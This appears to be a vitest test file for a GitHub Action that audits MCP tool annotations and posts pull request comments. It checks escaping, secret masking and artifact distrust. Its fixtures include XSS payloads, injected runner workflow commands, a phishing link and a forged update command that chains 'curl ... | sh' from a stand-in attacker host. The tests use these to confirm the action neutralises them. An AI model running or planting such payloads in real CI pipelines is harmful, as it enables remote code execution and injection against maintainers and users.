// The action's variants in this process (test/support/action-in-memory.ts): the same runner
// setup, inputs and fake GitHub API as the bundle run, the servers in memory. One run per feature
// of the built action, and what needs real processes (the early start, git, a server's own
// environment), stay in test/e2e/action.test.ts. A fixture with no in-memory twin
// (exit-at-once.mjs) fails to connect, as a server that cannot start does.
import { readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { pullRequestEvent, TOKEN, workflowRunEvent } from '../support/action.js';
import {
  dropDestructive,
  fakeGitHubEach,
  prWorkspace,
  quote,
  recordAtHead,
  relaxAddNote,
  runIn,
} from '../support/action-in-memory.js';
import {
  EXAMPLE,
  notesSpec,
  SERVERS,
  specServer,
  tempDir,
  withAnnotations,
  withDeleteNoteRenamed,
  type SpecTool,
} from '../support/cli.js';
import { DEFAULT_BASE_SHA, DEFAULT_HEAD_SHA, type FakeGitHub } from '../support/github-api.js';

const MARKER = '<!-- mcp-annotation-auditor:notes -->';
/** The marker of a run with policies: claude, as most runs here are (not the default policies). */
const CLAUDE_MARKER = '<!-- mcp-annotation-auditor:notes policies=claude -->';
type Spec = Awaited<ReturnType<typeof notesSpec>>;

/** Cells of a markdown table row, splitting only on unescaped pipes. */
function cells(row: string): number {
  return row.split(/(?<!\\)\|/).length - 2;
}

describe('the action, run in process', () => {
  let api: FakeGitHub;
  let spec: Spec;
  const github = fakeGitHubEach((started, notes) => {
    api = started;
    spec = notes;
  });

  it('creates no comment when the PR changes nothing and passes; the summary is still written', async () => {
    const { dir, base } = await prWorkspace(api, { base: spec });
    const run = await runIn(api, dir, { command: quote(base), policies: 'claude' });
    expect(run.code).toBe(0);
    expect(api.commentsOn(1)).toHaveLength(0);
    expect(run.outputs['comment-id']).toBe('');
    expect(run.summary).toContain('PASSED');
    expect(run.summary).toContain('Comment for notes: skipped.');
  });

  it('a base class list that does not parse gives a warning, and HEAD is compared instead', async () => {
    const { dir, base } = await prWorkspace(api, { base: spec });
    api.setFile(DEFAULT_BASE_SHA, 'mcp-tool-classes.json', '{ "tools": ');
    const broken = await runIn(api, dir, { command: quote(base), policies: 'claude' });
    expect(broken.code, broken.stdout).toBe(0);
    expect(broken.stdout).toMatch(
      /::warning::.*mcp-tool-classes\.json at the base commit.*Comparing with the class list at HEAD only\./,
    );
    expect(broken.outputs.result).toBe('passed');
  });

  it('escapes hostile names and titles so they render as inert text and leave the table intact', async () => {
    const hostile: SpecTool[] = [
      { name: 'pipe|name`tick`', annotations: { title: 'a | b `c`', readOnlyHint: true } },
      { name: 'img', annotations: { title: '<img src=x onerror=alert(1)>', readOnlyHint: true } },
      { name: 'mention', annotations: { title: '@some-org/team please look', readOnlyHint: true } },
      { name: 'link', annotations: { title: '[x](javascript:alert(1))', readOnlyHint: true } },
      { name: 'marker', annotations: { title: `${CLAUDE_MARKER} forged`, readOnlyHint: true } },
      { name: 'long', annotations: { title: 'A'.repeat(20_000), readOnlyHint: true } },
    ];
    const { dir } = await prWorkspace(api, { base: { name: 'notes', tools: [] } });
    const server = await specServer(dir, 'hostile.json', { name: 'notes', tools: hostile });
    const run = await runIn(api, dir, { command: quote(server), policies: 'claude' });
    expect(run.code).toBe(1); // tool-name: a pipe and backticks are not allowed in names
    const body = api.commentsOn(1)[0]?.body ?? '';
    expect(body).not.toMatch(/<img/i);
    expect(body).not.toMatch(/@some-org/);
    expect(body).not.toMatch(/(?<!\\)\]\(javascript:/);
    expect(body).not.toContain('`c`');
    expect(body.split(CLAUDE_MARKER)).toHaveLength(2);
    expect(body.indexOf(CLAUDE_MARKER)).toBe(0);
    expect(body).not.toContain('A'.repeat(200));
    // Every row of each table has as many cells as its header.
    for (const table of body.split(/\n\n/).filter((b) => b.startsWith('| '))) {
      const rows = table.split('\n').filter((r) => r.startsWith('|'));
      const width = cells(rows[0] ?? '');
      for (const row of rows) expect(cells(row), row).toBe(width);
    }
    expect(body).toContain('&lt;img src=x onerror=alert(1)&gt;');
    expect(body).toContain('@\u2060some-org/team');
  });

  it('events are an allow-list: one that names no base fails unless it is about no PR, which says it compared nothing', async () => {
    const { dir } = await prWorkspace(api, { base: spec });
    const dropped = await specServer(dir, 'dropped.json', dropDestructive(spec));
    await recordAtHead(dir, dropped);
    const inputs = { command: quote(dropped), policies: 'claude' };
    const failing: [string, unknown, string][] = [
      ['issue_comment', { issue: { number: 1, pull_request: { url: 'x' } } }, ', about PR #1,'],
      [
        'check_suite',
        { check_suite: { pull_requests: [{ number: 1 }] } },
        ', about a pull request,',
      ],
      ['check_run', { check_run: { pull_requests: [] } }, ''],
      ['workflow_run', { workflow_run: { pull_requests: [] } }, ''],
      ['issues', { issue: { number: 2 } }, ''],
      ['a_later_event', {}, ''],
    ];
    for (const [eventName, event, about] of failing) {
      const run = await runIn(api, dir, inputs, {
        event: event as Record<string, unknown>,
        eventName,
      });
      expect(run.code, `${eventName}: ${run.stdout}`).toBe(1);
      expect(run.outputs.result).toBe('error');
      expect(run.stdout).toContain(
        `::error::The event is ${eventName}${about} but it names no base commit the check can compare with: without one, what a PR does to the reviewed tools (a dropped hint, say) cannot be checked.`,
      );
    }
    // Told the PR by number, the same comment event reads its base through the API: caught.
    const named = await runIn(
      api,
      dir,
      { ...inputs, 'pr-number': '1' },
      { event: failing[0]?.[1] as Record<string, unknown>, eventName: 'issue_comment' },
    );
    expect(named.code, named.stdout).toBe(1);
    expect(named.outputs.result).toBe('failed');
    expect(named.summary).toContain('hint-dropped');
    // About no PR: HEAD alone is checked, and the log and the summary say so.
    for (const eventName of ['workflow_dispatch', 'schedule']) {
      const run = await runIn(api, dir, inputs, { event: {}, eventName });
      expect(run.code, `${eventName}: ${run.stdout}`).toBe(0);
      const none = `No base comparison was made: the event is ${eventName}, about no pull request, merge group or push`;
      expect(run.stdout).toContain(`::notice::${none}`);
      expect(run.summary).toContain(none);
    }
  });

  it('a working-directory that does not exist fails the step with a message naming it', async () => {
    const dir = await tempDir();
    for (const command of [`node ${EXAMPLE}`, '']) {
      const run = await runIn(api, dir, {
        ...(command ? { command } : {}),
        'working-directory': 'no/such/dir',
      });
      expect(run.code).toBe(1);
      expect(run.stdout).toContain(
        `::error::Input "working-directory" is "no/such/dir", but ${join(dir, 'no/such/dir')} does not exist.`,
      );
      expect(run.stdout).not.toContain('This is a bug');
      expect(run.outputs.result).toBe('error');
    }
  });

  describe('odd inputs', () => {
    it('masks the token before an input error can print it, and keeps it out of the summary', async () => {
      const dir = await tempDir();
      const run = await runIn(api, dir, { command: `node ${EXAMPLE} --token "${TOKEN}` });
      expect(run.code).toBe(1);
      expect(run.stdout.startsWith(`::add-mask::${TOKEN}`)).toBe(true);
      expect(run.summary).toContain('the audit could not run');
      expect(run.summary).not.toContain(TOKEN.slice(4));
    });

    it('an event that is not a pull request payload is no pull request, with a warning; on a pull request event it fails', async () => {
      const { dir, base } = await prWorkspace(api, { base: spec });
      const events: [string, string | undefined][] = [
        ['null', undefined],
        ['[1, 2]', undefined],
        [
          '{"pull_request": {}}',
          "::warning::The event's pull_request has no number or base commit",
        ],
        ['{"pull_request": {"number": 1}}', "::warning::The event's pull_request has no number"],
        ['{not json', '::warning::The event file '],
      ];
      for (const [eventText, warning] of events) {
        const run = await runIn(
          api,
          dir,
          { command: quote(base), policies: 'claude' },
          { eventText, eventName: 'workflow_dispatch' },
        );
        expect(run.code, `${eventText}: ${run.stdout}`).toBe(0);
        expect(run.stdout).not.toContain('This is a bug');
        if (warning) expect(run.stdout).toContain(warning);
        expect(api.commentsOn(1)).toHaveLength(0);
        // The same payload on a pull request's own event: no base to compare with, so no pass.
        for (const eventName of ['pull_request', 'pull_request_target']) {
          const pr = await runIn(
            api,
            dir,
            { command: quote(base), policies: 'claude' },
            { eventText, eventName },
          );
          expect(pr.code, `${eventName} ${eventText}: ${pr.stdout}`).toBe(1);
          expect(pr.outputs.result).toBe('error');
          expect(pr.stdout).toMatch(
            new RegExp(
              `::error::The event is ${eventName}, but .*: without the base commit, what the PR does to the reviewed tools \\(a dropped hint, say\\) cannot be checked\\.`,
            ),
          );
          expect(pr.stdout).not.toContain('taken as not being about a pull request');
        }
      }
      // Labels of any shape: only named ones count, and they still do.
      const dropped = await specServer(dir, 'dropped.json', dropDestructive(spec));
      await recordAtHead(dir, dropped);
      // A PR the API does not know: the event's labels are all there is.
      const odd = pullRequestEvent(7);
      (odd.pull_request as { labels: unknown }).labels = [null, 'x', { name: 7 }, { name: 'ok' }];
      const labelled = await runIn(
        api,
        dir,
        { command: quote(dropped), policies: 'claude', 'approve-label': 'ok' },
        { event: odd },
      );
      expect(labelled.code, labelled.stdout).toBe(0);
      expect(labelled.summary).toContain('notice (approved)');
    });

    it('sarif-file: its folder is created; a path that cannot be written fails the step after the summary and outputs', async () => {
      const { dir, base } = await prWorkspace(api, { base: spec });
      const made = await runIn(api, dir, {
        command: quote(base),
        'sarif-file': 'out/deep/mcp.sarif',
      });
      expect(made.code, made.stdout).toBe(0);
      expect(JSON.parse(await readFile(join(dir, 'out/deep/mcp.sarif'), 'utf8'))).toMatchObject({
        version: '2.1.0',
      });
      const bad = await runIn(api, dir, { command: quote(base), 'sarif-file': 'out' });
      expect(bad.code).toBe(1);
      expect(bad.stdout).toMatch(
        /::error::Could not write the SARIF file out \(input sarif-file\): /,
      );
      expect(bad.stdout).not.toContain('This is a bug');
      expect(bad.outputs.result).toBe('passed');
      expect(bad.summary).toContain('PASSED');
    });

    it('names the input for an empty program, a pr-number that is not a plain number, and an env name with a space', async () => {
      const dir = await tempDir();
      const cases: [Record<string, string>, string][] = [
        [{ command: `'' node ${EXAMPLE}` }, 'Input "command" has the value'],
        [
          { command: `node ${EXAMPLE}`, 'pr-number': '0x10' },
          'Input "pr-number" has the value "0x10"',
        ],
        [
          { command: `node ${EXAMPLE}`, env: 'SPACED = x' },
          'Bad environment entry: the name "SPACED " holds a space',
        ],
      ];
      for (const [inputs, message] of cases) {
        const run = await runIn(api, dir, inputs);
        expect(run.code, JSON.stringify(inputs)).toBe(1);
        expect(run.stdout).toContain(`::error::${message}`);
        expect(run.stdout).not.toContain('This is a bug');
      }
    });
  });

  it('a workflow_run job with no clone reads the base through the API and comments by pr-number', async () => {
    const { dir, head: relaxed } = await prWorkspace(api, { base: spec, head: relaxAddNote(spec) });
    const run = await runIn(
      api,
      dir,
      { command: quote(relaxed), policies: 'claude', 'pr-number': '1' },
      { eventName: 'workflow_run', event: { action: 'completed', workflow_run: { id: 1 } } },
    );
    expect(run.code, run.stdout).toBe(0);
    expect(api.requests.map((r) => `${r.method} ${r.path}`)).toEqual(
      expect.arrayContaining([
        'GET /repos/octo-org/octo-repo/pulls/1',
        'GET /repos/octo-org/octo-repo/contents/mcp-tool-classes.json',
      ]),
    );
    expect(api.commentsOn(1)[0]?.body).toContain('edit → **read**');
  });

  it('settings in the config file take effect when the workflow sets no input', async () => {
    const { dir, base } = await prWorkspace(api, { base: spec });
    const config = 'classList: tools.json\nfailOn: never\npolicies: [explicit]\n';
    await writeFile(join(dir, '.github-config.yml'), config);
    // The same at the base: nothing is relaxed (config-relaxed compares the two).
    api.setFile(DEFAULT_BASE_SHA, '.github-config.yml', config);
    const run = await runIn(api, dir, {
      command: quote(base),
      config: '.github-config.yml',
      comment: 'never',
    });
    expect(run.code).toBe(0);
    expect(run.stdout).toContain('There is no class list at tools.json yet.');
    expect(run.stdout).toContain('(fail-on: never)');
  });

  it('report-file: the comment job shows what the PR run saw, a probable rename included', async () => {
    // delete_note renamed with a new schema and its destructiveHint dropped: a probable rename.
    const { dir, head: server } = await prWorkspace(api, {
      base: spec,
      head: withDeleteNoteRenamed(spec),
    });
    const audit = await runIn(api, dir, { command: quote(server), comment: 'never' });
    expect(audit.code, audit.stdout).toBe(1);
    const run = await runIn(
      api,
      await tempDir(),
      { 'report-file': audit.outputs.report ?? '', 'pr-number': '1' },
      { eventName: 'workflow_run', event: workflowRunEvent() },
    );
    expect(run.code, run.stdout).toBe(0);
    const body = api.commentsOn(1)[0]?.body ?? '';
    expect(body).toContain(
      '| remove\\_note | probably renamed from delete\\_note | delete | closed | destructiveHint: `true` → _absent_ |',
    );
    expect(body).toContain('`tool-renamed`');
  });

  describe('report-file: the workflow_run comment job trusts the event, never the artifact', () => {
    /** The PR's own run, which comments nothing: the path of the report it wrote. */
    async function prRun(server: Spec, record: boolean, inputs: Record<string, string> = {}) {
      const { dir } = await prWorkspace(api, { base: spec });
      const command = await specServer(dir, 'pr.json', server);
      if (record) await recordAtHead(dir, command);
      const run = await runIn(api, dir, {
        command: quote(command),
        policies: 'claude',
        comment: 'never',
        ...inputs,
      });
      expect(run.outputs.report, run.stdout).toBeTruthy();
      return { run, dir, report: run.outputs.report ?? '' };
    }
    /** The trusted job: no checkout, the report downloaded, the event GitHub gives it. */
    async function commentJob(
      report: string,
      event: Record<string, unknown> = workflowRunEvent(),
      inputs: Record<string, string> = {},
    ) {
      return runIn(
        api,
        await tempDir(),
        { 'report-file': report, ...inputs },
        { eventName: 'workflow_run', event },
      );
    }
    const writes = () => api.requests.filter((r) => r.method === 'POST' || r.method === 'PATCH');

    it('comments only on the open PR whose head the triggering run audited; an issue, a closed PR, another head or repository, or a pr-number the event disagrees with is refused and nothing is written', async () => {
      const other = '0123456789abcdef0123456789abcdef01234567';
      await github.restart({
        pulls: {
          1: { baseSha: DEFAULT_BASE_SHA, headSha: DEFAULT_HEAD_SHA },
          2: { baseSha: DEFAULT_BASE_SHA, headSha: other },
          3: { baseSha: DEFAULT_BASE_SHA, headSha: DEFAULT_HEAD_SHA, state: 'closed' },
          4: {
            baseSha: DEFAULT_BASE_SHA,
            headSha: DEFAULT_HEAD_SHA,
            headRepository: 'contributor/octo-repo',
          },
        },
        issues: [5],
        comments: [
          {
            issueNumber: 2,
            body: `${CLAUDE_MARKER}\n### ❌ MCP tool annotations for \`notes\`: failed`,
          },
        ],
      });
      const { report } = await prRun(relaxAddNote(spec), true);
      const unlisted = workflowRunEvent({ pulls: [] });
      const refused: [Record<string, unknown>, string | undefined, string][] = [
        [
          unlisted,
          '2',
          "PR #2's head is 0123456789ab, but the run that wrote the report audited e5bd3914e2e5 (workflow_run.head_sha)",
        ],
        [unlisted, '3', 'PR #3 is closed'],
        [
          unlisted,
          '5',
          '#5 is not a pull request of octo-org/octo-repo (an issue, or no such number)',
        ],
        [
          workflowRunEvent(),
          '2',
          'Input "pr-number" is 2, but the workflow_run that started this job is for PR #1.',
        ],
        [
          workflowRunEvent({ pulls: [], headRepository: 'mallory/octo-repo' }),
          '4',
          "PR #4's head is in contributor/octo-repo, but the run that wrote the report audited mallory/octo-repo",
        ],
        [unlisted, undefined, 'The workflow_run event names no pull request'],
        [{ action: 'completed', workflow_run: { id: 1 } }, '1', 'names no such run'],
      ];
      for (const [event, pr, message] of refused) {
        const run = await commentJob(report, event, pr !== undefined ? { 'pr-number': pr } : {});
        expect(run.code, message).toBe(1);
        expect(run.outputs.result).toBe('error');
        expect(run.stdout).toMatch(/^::error::/m);
        expect(run.stdout).toContain(message);
        expect(run.stdout).toContain('Nothing was written to any pull request.');
      }
      expect(writes()).toEqual([]);
      expect(api.commentsOn(2)[0]?.body).toContain('failed');
      expect(api.commentsOn(5)).toEqual([]);
      // The PR the event names, and a fork's PR (not listed by workflow_run) by pr-number.
      const listed = await commentJob(report);
      expect(listed.code, listed.stdout).toBe(0);
      expect(api.commentsOn(1)).toHaveLength(1);
      const fork = await commentJob(
        report,
        workflowRunEvent({ pulls: [], headRepository: 'contributor/octo-repo' }),
        { 'pr-number': '4' },
      );
      expect(fork.code, fork.stdout).toBe(0);
      expect(api.commentsOn(4)[0]?.body).toContain('edit → **read**');
    });

    it("never takes the update command from the report: it is built from this job's inputs, or said in words", async () => {
      const { report } = await prRun(relaxAddNote(spec), true);
      const json = JSON.parse(await readFile(report, 'utf8')) as Record<string, unknown>;
      json.updateCommand =
        'npx mcp-annotation-auditor update && curl -s https://evil.example/x | sh';
      await writeFile(report, JSON.stringify(json));
      const words = await commentJob(report);
      expect(words.code, words.stdout).toBe(0);
      const body = api.commentsOn(1)[0]?.body ?? '';
      expect(body).not.toContain('curl');
      expect(body).not.toContain('evil');
      expect(body).toContain(
        "To accept a change, run `npx mcp-annotation-auditor@0.1.0 update` with the server's command line (after `--`) or config file, as the PR's workflow audits it, and commit the file",
      );
      // Told the server's command (the step never runs it), the comment gives the whole line.
      await commentJob(report, workflowRunEvent(), { command: 'node dist/server.js' });
      expect(api.commentsOn(1)[0]?.body).toContain(
        'To accept a change, run `npx mcp-annotation-auditor@0.1.0 update -- node dist/server.js` and commit the file',
      );
    });

    it("passes when the report failed: the comment turns red, and the PR's own run is the check that fails", async () => {
      const { run, report } = await prRun(dropDestructive(spec), false);
      expect(run.code).toBe(1);
      const job = await commentJob(report);
      expect(job.code, job.stdout).toBe(0);
      expect(job.outputs.result).toBe('failed');
      expect(job.stdout).not.toMatch(/^::error::/m);
      const body = api.commentsOn(1)[0]?.body ?? '';
      expect(body).toContain('❌ MCP tool annotations for `notes`: failed');
      expect(body).toContain('`hint-dropped`');
    });

    it("a report file's texts reach the trusted job's log with no workflow command in them", async () => {
      const { report } = await prRun(relaxAddNote(spec), true);
      const forged = JSON.parse(await readFile(report, 'utf8')) as Record<string, unknown>;
      // A first run prints the class list's path in its verdict line, as the log's last line.
      forged.firstRun = true;
      forged.classList = [
        'x.json',
        '::warning title=INJECTED::from the artifact',
        '\u0085::stop-commands::t0k',
        'a ##[add-mask]FAILED',
        '\r::set-output name=result::passed',
      ].join('\n');
      await writeFile(report, JSON.stringify(forged));
      const job = await commentJob(report);
      expect(job.stdout).toContain('x.json');
      // Each line as GitHub's runner reads it: `::name` after the white space it trims, or
      // `##[name]` anywhere; only the action's own commands are there.
      const commands = job.stdout.split(/\r\n|\r|\n/).flatMap((line) => {
        const v2 = /^::([\w-]+)/.exec(line.replace(/^\p{White_Space}+/u, ''));
        const v1 = /##\[([\w-]+)/.exec(line);
        return [v2?.[1], v1?.[1]].filter((c) => c !== undefined);
      });
      expect(
        commands.filter((c) => !['add-mask', 'warning', 'notice', 'error'].includes(c)),
      ).toEqual([]);
      expect(job.stdout).not.toMatch(/^\p{White_Space}*::warning title=INJECTED/mu);
      expect(job.stdout).not.toContain('##[add-mask]FAILED');
    });

    it("escapes the report's texts in the job summary too: a server name renders no HTML and mentions no one", async () => {
      const { report } = await prRun(relaxAddNote(spec), true);
      const hostile = '<img src=x onerror=alert(1)> @octo-org/security';
      const text = (await readFile(report, 'utf8')).replace(/"server": "notes"/g, () =>
        JSON.stringify({ server: hostile }).slice(1, -1),
      );
      expect(text).toContain('<img');
      await writeFile(report, text);
      const job = await commentJob(report);
      expect(job.code, job.stdout).toBe(0);
      expect(job.summary).toContain(
        'Comment for &lt;img src=x onerror=alert(1)&gt; @\u2060octo-org/security: created',
      );
      expect(job.summary).not.toMatch(/<img/i);
      expect(job.summary).not.toContain('@octo-org');
      // In the comment, only inside the heading's code span, where it is shown as it is.
      const body = api.commentsOn(1)[0]?.body ?? '';
      expect(body.split('<img')).toHaveLength(2);
      expect(body).toContain(`for \`${hostile}\`: passed`);
    });

    it('two configurations of one server (a matrix over policies) keep a comment each; a default run keeps the plain marker', async () => {
      const { dir } = await prWorkspace(api, { base: spec });
      const dropped = quote(await specServer(dir, 'dropped.json', dropDestructive(spec)));
      // A comment from before markers told runs apart: the default run's own.
      const old = api.seedComment({
        body: `${MARKER}\n### ✅ MCP tool annotations for \`notes\`: passed`,
      });
      const byDefault = await runIn(api, dir, { command: dropped });
      const claude = await runIn(api, dir, { command: dropped, policies: 'claude' });
      expect(byDefault.outputs['comment-id']).toBe(String(old.id));
      const comments = api.commentsOn(1);
      expect(comments.map((c) => c.body.split('\n')[0])).toEqual([MARKER, CLAUDE_MARKER]);
      expect(claude.outputs['comment-id']).toBe(String(comments[1]?.id));
      expect(comments.every((c) => c.body.includes('`notes`: failed'))).toBe(true);
      // Each run again, and the comment job from the claude run's report: each finds its own.
      const again = await runIn(api, dir, {
        command: dropped,
        policies: 'claude',
        'protocol-era': 'legacy',
      });
      expect(again.outputs['comment-id']).toBe(String(comments[1]?.id));
      const job = await commentJob(claude.outputs.report ?? '');
      expect(job.outputs['comment-id']).toBe(String(comments[1]?.id));
      expect(api.commentsOn(1)).toHaveLength(2);
    });
  });

  describe('found by a fault-injection pass', () => {
    it('report-file: the class list path reaches the comment only as code; a long description is read back', async () => {
      const { dir, head: relaxed } = await prWorkspace(api, {
        base: spec,
        head: withAnnotations(
          { ...spec, tools: spec.tools.map((t) => ({ ...t, description: 'd'.repeat(200_000) })) },
          'add_note',
          { readOnlyHint: true },
        ),
      });
      const audit = await runIn(api, dir, {
        command: quote(relaxed),
        policies: 'claude',
        comment: 'never',
      });
      const path = audit.outputs.report ?? '';
      const report = JSON.parse(await readFile(path, 'utf8')) as Record<string, unknown>;
      // Named from its serverInfo: the command pins that name (the report-file job never uses it).
      // The fixture server lives outside the workspace: its path is hidden, the spec's is not.
      expect(report.updateCommand).toBe(
        `npx mcp-annotation-auditor@0.1.0 update --server-name notes -- node '***' ${relaxed[2]} # replace each *** with the secret it stands for`,
      );
      report.classList =
        'x` @octo-org/security <img src=x> [phish](https://evil.example/login) <!-- mcp-annotation-auditor:other --> `y';
      await writeFile(path, JSON.stringify(report));
      const trusted = await tempDir();
      const run = await runIn(
        api,
        trusted,
        { 'report-file': path, 'pr-number': '1' },
        { eventName: 'workflow_run', event: workflowRunEvent() },
      );
      expect(run.code, run.stdout).toBe(0);
      const body = api.commentsOn(1)[0]?.body ?? '';
      // One code span from the first backtick to the last: no mention, image, link or marker.
      expect(body).toMatch(/live in `x {2}@octo-org\/security <img src=x> \[phish\][^`]* {2}y`\./);
      // The forged marker is inside that span; ours still opens the comment.
      expect(body.startsWith(CLAUDE_MARKER)).toBe(true);
    });

    it('a server that cannot start marks the comment of the server the class list records, without server-name', async () => {
      const { dir, head: relaxed } = await prWorkspace(api, {
        base: spec,
        head: relaxAddNote(spec),
      });
      const first = await runIn(api, dir, { command: quote(relaxed), policies: 'claude' });
      expect(api.commentsOn(1)[0]?.body, first.stdout).toContain('passed');
      const broken = await runIn(api, dir, {
        command: quote(['node', join(SERVERS, 'exit-at-once.mjs')]),
        policies: 'claude',
      });
      expect(broken.code).toBe(1);
      expect(api.commentsOn(1)).toHaveLength(1);
      expect(api.commentsOn(1)[0]?.body).toContain('`notes`: the audit could not run');
      // A config file that is not YAML: the same.
      await recordAtHead(dir, relaxed);
      await runIn(api, dir, { command: quote(relaxed), policies: 'claude' });
      expect(api.commentsOn(1)[0]?.body).toContain('passed');
      await writeFile(join(dir, 'auditor.yml'), 'policies: [claude\n');
      const badConfig = await runIn(api, dir, { command: quote(relaxed), config: 'auditor.yml' });
      expect(badConfig.code).toBe(1);
      expect(api.commentsOn(1)[0]?.body).toContain('the audit could not run');
      expect(api.commentsOn(1)[0]?.body).toContain('not valid YAML');
    });

    it('findings about the run (a stale waiver) fail the comment and reach SARIF', async () => {
      const { dir, base } = await prWorkspace(api, { base: spec });
      const config =
        'failOn: warning\nwaivers:\n  - {rule: hint-dropped, tool: ghost_tool, reason: gone}\n';
      await writeFile(join(dir, 'auditor.yml'), config);
      // The waiver was there at the base already: not a new one (config-relaxed).
      api.setFile(DEFAULT_BASE_SHA, 'auditor.yml', config);
      const run = await runIn(api, dir, {
        command: quote(base),
        config: 'auditor.yml',
        'sarif-file': 'out.sarif',
      });
      expect(run.code, run.stdout).toBe(1);
      // Annotated where the waiver is written, not on line 1 of the class list.
      expect(run.stdout).toContain(
        '::warning title=mcp-annotation-auditor%3A stale-waiver,file=auditor.yml,line=3::',
      );
      const body = api.commentsOn(1)[0]?.body ?? '';
      expect(body).toContain('❌');
      expect(body).toContain('`stale-waiver`');
      const sarif = JSON.parse(await readFile(join(dir, 'out.sarif'), 'utf8')) as {
        runs: { results: { ruleId: string }[] }[];
      };
      expect(sarif.runs[0]?.results.map((r) => r.ruleId)).toEqual(['stale-waiver']);
    });

    it("masks the URL's secret parts and the header values before anything is printed, and keeps them out of the summary and the comment", async () => {
      api.seedComment({ body: `${MARKER}\n### ✅ MCP tool annotations for \`notes\`: passed` });
      const secrets = ['SK_LIVE_SECRET_1', 'tok_SECRET_HEADER_2', 'CONFIG_SECRET_3'];
      const dir = await tempDir();
      // Nothing listens on port 9: the audit cannot run, and its error may quote the URL.
      const fromInputs = await runIn(api, dir, {
        url: `http://127.0.0.1:9/mcp?api_key=${secrets[0]}`,
        headers: `Authorization: Bearer ${secrets[1]}`,
        'server-name': 'notes',
      });
      await writeFile(
        join(dir, 'auditor.yml'),
        'servers:\n  notes:\n    url: http://127.0.0.1:9/mcp?key=${API_KEY}\n',
      );
      const fromConfig = await runIn(
        api,
        dir,
        { config: 'auditor.yml' },
        { env: { API_KEY: secrets[2] as string } },
      );
      for (const [run, masked] of [
        [fromInputs, secrets.slice(0, 2)],
        [fromConfig, secrets.slice(2)],
      ] as const) {
        expect(run.code).toBe(1);
        expect(run.outputs.result).toBe('error');
        const lines = run.stdout.split('\n');
        const printed = lines.findIndex((l) => !l.startsWith('::add-mask::'));
        for (const secret of masked) {
          expect(lines.slice(0, printed), run.stdout).toContain(`::add-mask::${secret}`);
          for (const line of lines.slice(printed)) expect(line).not.toContain(secret);
          expect(run.summary).not.toContain(secret);
          expect(api.commentsOn(1)[0]?.body).not.toContain(secret);
        }
        expect(api.commentsOn(1)[0]?.body).toContain('the audit could not run');
      }
    });

    it('update mode counts what it changed', async () => {
      const dir = await tempDir();
      const inputs = { command: `node ${EXAMPLE}`, mode: 'update' };
      const first = await runIn(api, dir, inputs);
      expect(first.outputs['changed-count']).toBe('3');
      const again = await runIn(api, dir, inputs);
      expect(again.outputs['changed-count']).toBe('0');
    });
  });
});
